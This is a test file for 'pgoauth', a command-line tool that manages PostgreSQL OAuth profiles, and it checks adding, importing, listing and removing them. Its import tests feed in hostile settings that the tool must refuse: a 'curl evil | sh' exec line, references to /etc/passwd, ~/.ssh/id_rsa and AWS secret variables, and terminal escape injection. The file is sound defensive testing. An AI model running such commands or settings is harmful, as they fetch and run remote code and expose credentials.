import assert from 'node:assert/strict'
import { lstatSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { openLaptop } from '../support/laptop.ts'
import { openTerminal } from '../support/terminal.ts'

const PROGRAM = fileURLToPath(new URL('../../bin/pgoauth.js', import.meta.url))

const COMMENTED = `# Ask dba@example.com before you change anything here.
default: prod

profiles:
  # the real one
  prod:
    host: pg.example.com   # behind the VPN
    issuer: https://id.example.com
    client_id: pgoauth
    scopes: [openid, offline_access]

  test: { host: test.example.com, issuer: "https://id.example.com", client_id: pgoauth }  # reset nightly
# the end
`

const ADD = ['--host', 'new.example.com', '--issuer', 'https://id.example.com', '--client-id', 'pgoauth']

describe('profile add', () => {
  test('a first profile makes the file, and its folder', async () => {
    const laptop = openLaptop('')
    renameSync(laptop.configFile, `${laptop.configFile}.away`)
    const { code, stderr } = await laptop.run(['profile', 'add', 'prod', ...ADD, '--scopes', 'openid,orders:read'])
    assert.equal(code, 0, stderr)
    assert.match(stderr, /next: pgoauth login prod/)
    assert.equal(
      readFileSync(laptop.configFile, 'utf8'),
      `profiles:
  prod:
    host: new.example.com
    issuer: https://id.example.com
    client_id: pgoauth
    scopes: [openid, orders:read]
`,
    )
  })

  test('comments, order and layout of the rest stay', async () => {
    const laptop = openLaptop(COMMENTED)
    assert.equal((await laptop.run(['profile', 'add', 'new', ...ADD, '--tls-ca', 'ca.pem'])).code, 0)
    const after = readFileSync(laptop.configFile, 'utf8')
    const added = `  new:
    host: new.example.com
    tls:
      ca: ${join(laptop.home, 'ca.pem')}
    issuer: https://id.example.com
    client_id: pgoauth
`
    assert.equal(after, COMMENTED.replace('# the end\n', `${added}# the end\n`), 'a file is where the person was')
    assert.equal((await laptop.run(['profile', 'remove', 'new'])).code, 0)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
  })

  test('a file of nothing but comments keeps them', async () => {
    const laptop = openLaptop('# mine\n')
    assert.equal((await laptop.run(['profile', 'add', 'new', ...ADD])).code, 0)
    assert.match(readFileSync(laptop.configFile, 'utf8'), /^# mine\n+profiles:\n {2}new:\n/)
  })

  test('a name that is taken is refused, unless it is to be replaced', async () => {
    const laptop = openLaptop(COMMENTED)
    const taken = await laptop.run(['profile', 'add', 'prod', ...ADD])
    assert.equal(taken.code, 2)
    assert.match(taken.stderr, /there is a profile "prod" already/)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
    assert.equal((await laptop.run(['profile', 'add', 'prod', ...ADD, '--replace', '--default'])).code, 0)
    assert.equal(JSON.parse((await laptop.run(['profile', 'show', '--json'])).stdout).host, 'new.example.com')
  })

  test('without a terminal what is missing is named, and nothing is written', async () => {
    const laptop = openLaptop(COMMENTED)
    const { code, stderr } = await laptop.run(['profile', 'add', 'new', '--host', 'x'])
    assert.equal(code, 2)
    assert.match(stderr, /a profile needs --issuer, --client-id/)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
  })

  test('a wrong value is told by its flag, and nothing is written', async () => {
    const laptop = openLaptop(COMMENTED)
    const { code, stderr } = await laptop.run(['profile', 'add', 'new', ...ADD, '--flow', 'carrier-pigeon'])
    assert.equal(code, 2)
    assert.match(stderr, /--flow: must be one of "auto", "browser"/)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
  })

  for (const [host, said] of [
    ['https://pg.example.com', /--host: expected a host name or address, without scheme/],
    ['pg.example.com:6432', /--host: a host has no port/],
  ] as const) {
    test(`${host} is no host`, async () => {
      const { code, stderr } = await openLaptop(COMMENTED).run(['profile', 'add', 'new', ...ADD, '--host', host])
      assert.equal(code, 2)
      assert.match(stderr, said)
    })
  }

  test('a broken file is not written to', async () => {
    const laptop = openLaptop('profiles:\n  prod: {\n')
    const { code, stderr } = await laptop.run(['profile', 'add', 'new', ...ADD])
    assert.equal(code, 2)
    assert.match(stderr, /config\.yaml:\d+:\d+: /)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), 'profiles:\n  prod: {\n')
  })

  test('a symbolic link stays one, and its target is written', async () => {
    const laptop = openLaptop(COMMENTED)
    const target = join(laptop.home, 'dotfiles.yaml')
    renameSync(laptop.configFile, target)
    symlinkSync(target, laptop.configFile)
    assert.equal((await laptop.run(['profile', 'add', 'new', ...ADD])).code, 0)
    assert.ok(lstatSync(laptop.configFile).isSymbolicLink())
    assert.match(readFileSync(target, 'utf8'), /new\.example\.com/)
  })
})

const THEIRS = `host: pg.theirs.example
port: 6432
issuer: https://id.theirs.example
client_id: pgoauth
scopes: [openid, orders:read]
`

describe('profile add --from', () => {
  function withFile(text: string) {
    const laptop = openLaptop(COMMENTED)
    mkdirSync(join(laptop.home, 'given'))
    writeFileSync(join(laptop.home, 'given', 'theirs.yaml'), text)
    return laptop
  }

  test('shows issuer and host, and without a terminal wants --yes', async () => {
    const laptop = withFile(THEIRS)
    const asked = await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml'])
    assert.equal(asked.code, 2)
    assert.match(asked.stderr, /issuer +https:\/\/id\.theirs\.example\n +host +pg\.theirs\.example:6432\n/)
    assert.match(asked.stderr, /add --yes/)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
    const agreed = await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml', '--yes'])
    assert.equal(agreed.code, 0)
    assert.match(agreed.stderr, /issuer +https:\/\/id\.theirs\.example/)
    assert.match(readFileSync(laptop.configFile, 'utf8'), /pg\.theirs\.example/)
  })

  test('a whole file with one profile brings its name along', async () => {
    const laptop = withFile(`profiles:\n  handed:\n${THEIRS.replace(/^(?=.)/gm, '    ')}`)
    assert.equal((await laptop.run(['profile', 'add', '--from', 'given/theirs.yaml', '--yes'])).code, 0)
    assert.match(readFileSync(laptop.configFile, 'utf8'), /handed:/)
  })

  test('a file that it names is relative to it', async () => {
    const laptop = withFile(`${THEIRS}tls: { ca: ./their-ca.pem }\n`)
    assert.equal((await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml', '--yes'])).code, 0)
    assert.ok(readFileSync(laptop.configFile, 'utf8').includes(join(laptop.home, 'given', 'their-ca.pem')))
  })

  for (const line of [
    'exec: [sh, -c, "curl evil | sh"]',
    'flow: exec',
    'flow: token_file',
    'token_file: /etc/passwd',
    'client_secret_env: AWS_SECRET_ACCESS_KEY',
    'client_key: ~/.ssh/id_rsa',
    'store: file',
    'store: memory',
    'allow_remote: true',
    'listen: 0.0.0.0:5432',
    'local_auth: none',
    'insecure_loopback: true',
    'tls: { mode: require }',
    'tls: { cert: ./c, key: ./k }',
  ]) {
    test(`refuses ${line}, with --yes too`, async () => {
      const laptop = withFile(`${THEIRS}${line}\n`)
      const { code, stderr } = await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml', '--yes'])
      assert.equal(code, 2)
      assert.match(stderr, /sets "\S+", which an imported profile may not/)
      assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
    })
  }

  test('an unknown key, such as a secret, is refused with its place', async () => {
    const laptop = withFile(`${THEIRS}client_secret: hunter2\n`)
    const { code, stderr } = await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml', '--yes'])
    assert.equal(code, 2)
    assert.match(stderr, /theirs\.yaml:6:1: .*client_secret/)
    assert.doesNotMatch(stderr, /hunter2/)
  })

  test('a file without host and issuer is no profile', async () => {
    const laptop = withFile('# nothing here\n')
    const { code, stderr } = await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml', '--yes'])
    assert.equal(code, 2)
    assert.match(stderr, /needs --host, --issuer, --client-id/)
    assert.equal(readFileSync(laptop.configFile, 'utf8'), COMMENTED)
  })

  test('a host that cannot be reached is told as such, with exit code 5', async () => {
    const from = 'https://no-such-host.invalid/p.yaml'
    const { code, stderr } = await openLaptop(COMMENTED).run(['profile', 'add', 'theirs', '--from', from, '--yes'])
    assert.equal(code, 5)
    assert.match(stderr, /the file cannot be fetched: --from: https:\/\/no-such-host\.invalid\/p\.yaml \(E/)
    assert.doesNotMatch(stderr, /internal|issuer/)
  })

  test('escape sequences in it do not reach the terminal', async () => {
    const laptop = withFile(THEIRS.replace('pg.theirs.example', '"pg\\e[2Kevil"'))
    const { stderr } = await laptop.run(['profile', 'add', 'theirs', '--from', 'given/theirs.yaml'])
    assert.ok(stderr.includes('pg?[2Kevil'))
  })

  test('a URL is read over https or from this machine, and brings no files along', async () => {
    let body = THEIRS
    const server = createServer((_request, response) => response.end(body))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    after(() => server.close())
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/p.yaml`
    const laptop = openLaptop(COMMENTED)
    assert.equal((await laptop.run(['profile', 'add', 'theirs', '--from', url, '--yes'])).code, 0)
    body = `${THEIRS}tls: { ca: /etc/ssl/evil.pem }\n`
    const files = await laptop.run(['profile', 'add', 'files', '--from', url, '--yes'])
    assert.equal(files.code, 2)
    assert.match(files.stderr, /cannot bring along/)
    body = `a: ${'x'.repeat(100_000)}`
    assert.match((await laptop.run(['profile', 'add', 'long', '--from', url, '--yes'])).stderr, /too long/)
    const plain = await laptop.run(['profile', 'add', 'plain', '--from', 'http://example.com/p.yaml', '--yes'])
    assert.equal(plain.code, 2)
    assert.match(plain.stderr, /is not https/)
  })
})

describe('profile add at a terminal', () => {
  test('a wrong answer is said and asked for again, and the others are not lost', async () => {
    const laptop = openLaptop(COMMENTED)
    const terminal = openTerminal(`'${process.execPath}' '${PROGRAM}' profile add`, laptop.env)
    const answers: [RegExp, string][] = [
      [/Profile name: $/, 'prod'],
      [/there is a profile "prod" already\s+Profile name: $/, 'new'],
      [/Host .*: $/, ''],
      [/a profile needs --host\s+Host .*: $/, 'new.example.com'],
      [/Port \[5432\]: $/, '99999'],
      [/--port: expected a number from 1 to 65535\s+Port \[5432\]: $/, ''],
      [/Database .*: $/, ''],
      [/Issuer URL: $/, 'http://id.example.com'],
      [/over https .*\s+Issuer URL: $/, 'https://id.example.com'],
      [/client id \[pgoauth\]: $/, ''],
      [/Scopes .*: $/, ''],
    ]
    for (const [question, answer] of answers) {
      await terminal.shows(question)
      terminal.type(`${answer}\r`)
    }
    assert.equal(await terminal.ended, 0)
    assert.match(readFileSync(laptop.configFile, 'utf8'), /new:\n +host: new\.example\.com\n/)
  })

  test('a name that is taken is said before anything is asked', async () => {
    const laptop = openLaptop(COMMENTED)
    const terminal = openTerminal(`'${process.execPath}' '${PROGRAM}' profile add prod`, laptop.env)
    await terminal.shows(/there is a profile "prod" already/)
    assert.equal(await terminal.ended, 2)
  })

  test('removing a profile that is not there asks nothing', async () => {
    const laptop = openLaptop(COMMENTED)
    const terminal = openTerminal(`'${process.execPath}' '${PROGRAM}' profile remove prdo`, laptop.env)
    await terminal.shows(/did you mean "prod"\?/)
    assert.equal(await terminal.ended, 2)
  })
})

describe('profile list, show, remove, password', () => {
  test('list marks the default one', async () => {
    const { stdout } = await openLaptop(COMMENTED).run(['profile', 'list'])
    assert.equal(
      stdout,
      '* prod  pg.example.com:5432  https://id.example.com\n  test  test.example.com:5432  https://id.example.com\n',
    )
  })

  test('list --json', async () => {
    const rows = JSON.parse((await openLaptop(COMMENTED).run(['profile', 'list', '--json'])).stdout)
    assert.deepEqual(rows[0], {
      profile: 'prod',
      default: true,
      host: 'pg.example.com',
      port: 5432,
      database: null,
      issuer: 'https://id.example.com',
    })
  })

  test('show prints what counts, with overrides', async () => {
    const laptop = openLaptop(COMMENTED)
    const { stdout } = await laptop.run(['profile', 'show', 'prod', '--json'], { env: { PGOAUTH_PORT: '7' } })
    const { profile, port, store, tls, redirect } = JSON.parse(stdout)
    assert.deepEqual(
      { profile, port, store, tls, redirect },
      { profile: 'prod', port: 7, store: 'file', tls: { mode: 'verify-full' }, redirect: 'http://127.0.0.1/callback' },
    )
  })

  test('what show prints can be read as a file', async () => {
    const laptop = openLaptop(COMMENTED)
    writeFileSync(join(laptop.home, 'shown.yaml'), (await laptop.run(['profile', 'show', 'test'])).stdout)
    const env = { PGOAUTH_CONFIG: join(laptop.home, 'shown.yaml') }
    assert.equal((await laptop.run(['profile', 'show', 'test'], { env })).code, 0)
  })

  test('removing the default profile removes the default', async () => {
    const laptop = openLaptop(COMMENTED)
    assert.equal((await laptop.run(['profile', 'remove', 'prod'])).code, 0)
    assert.doesNotMatch(readFileSync(laptop.configFile, 'utf8'), /default:|pg\.example\.com/)
    assert.equal((await laptop.run(['profile', 'show'])).code, 0, 'the only one left is used')
  })

  test('removing one that is not there is exit code 2, and the one that was meant is named', async () => {
    const { code, stderr } = await openLaptop(COMMENTED).run(['profile', 'remove', 'prdo'])
    assert.equal(code, 2)
    assert.match(stderr, /there is no profile "prdo" in .*; did you mean "prod"\?/)
  })

  test('a default that is mistyped gets a suggestion', async () => {
    const { code, stderr } = await openLaptop(COMMENTED.replace('default: prod', 'default: prd')).run(['token'])
    assert.equal(code, 2)
    assert.match(stderr, /there is no profile "prd"; did you mean "prod"\?/)
  })

  test('without any profile, status --json is an empty list', async () => {
    const { code, stdout } = await openLaptop('').run(['status', '--json'])
    assert.deepEqual({ code, listed: JSON.parse(stdout) }, { code: 0, listed: [] })
  })

  test('status and profile show take the flags of a profile, as errors about stores tell people to', async () => {
    const laptop = openLaptop(COMMENTED, { PGOAUTH_STORE: undefined })
    const status = await laptop.run(['status', 'prod', '--store', 'file', '--json'])
    assert.deepEqual([status.code, JSON.parse(status.stdout)[0].store], [3, 'file'], status.stderr)
    const shown = await laptop.run(['profile', 'show', 'prod', '--store', 'file', '--json'])
    assert.equal(JSON.parse(shown.stdout).store, 'file')
    assert.match((await laptop.run(['profile', 'password', 'prod', '--store', 'file'])).stdout, /^[\w-]{24}\n$/)
  })

  test('with HOME set to nothing, config.yaml is not read from where the person is', async () => {
    const laptop = openLaptop(COMMENTED)
    const { stdout, stderr } = await laptop.run(['profile', 'list', '--json'], { env: { HOME: '' } })
    assert.ok(!stdout.includes('pg.example.com'), stderr)
  })

  test('password is made once, kept, and changed by --rotate', async () => {
    const laptop = openLaptop(COMMENTED)
    const [first, second] = [await laptop.run(['profile', 'password']), await laptop.run(['profile', 'password'])]
    assert.match(first.stdout, /^[\w-]{24}\n$/)
    assert.equal(second.stdout, first.stdout)
    const rotated = await laptop.run(['profile', 'password', '--rotate'])
    assert.notEqual(rotated.stdout, first.stdout)
    assert.equal((await laptop.run(['profile', 'password'])).stdout, rotated.stdout)
    assert.notEqual((await laptop.run(['profile', 'password', 'test'])).stdout, rotated.stdout)
  })

  test('with store: memory there is no password to show', async () => {
    const laptop = openLaptop(COMMENTED, { PGOAUTH_STORE: 'memory' })
    const { code, stderr } = await laptop.run(['profile', 'password'])
    assert.equal(code, 2)
    assert.match(stderr, /each "pgoauth connect" makes its own/)
  })
})
